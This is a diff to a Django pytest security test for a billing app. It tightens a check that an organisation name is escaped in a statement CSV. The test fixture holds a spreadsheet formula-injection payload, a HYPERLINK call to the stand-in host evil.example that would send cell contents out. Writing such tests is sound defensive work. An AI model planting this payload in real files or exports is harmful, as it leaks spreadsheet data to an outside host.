@@ -2,7 +2,9 @@
 nor stop another tenant's budget notices; a webhook URL must not reach inside through an IPv6 form that
 embeds an internal IPv4 address."""
 
+import csv
 import datetime
+import io
 
 import pytest
 from django.core import mail
@@ -21,13 +23,12 @@ from .conftest import at, member, usage
 OCTOBER = datetime.date(2026, 10, 1)
 
 
-@pytest.mark.xfail(strict=True, reason="review10: the organisation's name reaches the statement CSV unescaped")
 @pytest.mark.django_db
 def test_an_organisation_named_like_a_formula_is_not_a_formula_in_the_csv():
     org = Organisation.objects.create(name='=HYPERLINK("https://evil.example/?"&A1,"click")')
     usage(org, "1", at(datetime.date(2026, 10, 3)))
-    first_row = statement_csv(selectors.statement(org, OCTOBER)).splitlines()[0]
-    assert ",'=HYPERLINK(" in first_row, first_row
+    first_row = next(csv.reader(io.StringIO(statement_csv(selectors.statement(org, OCTOBER)))))
+    assert first_row[1] == "'" + org.name, first_row
 
 
 @pytest.mark.xfail(strict=True, reason="review10: a key named with a line break stops every later budget notice")
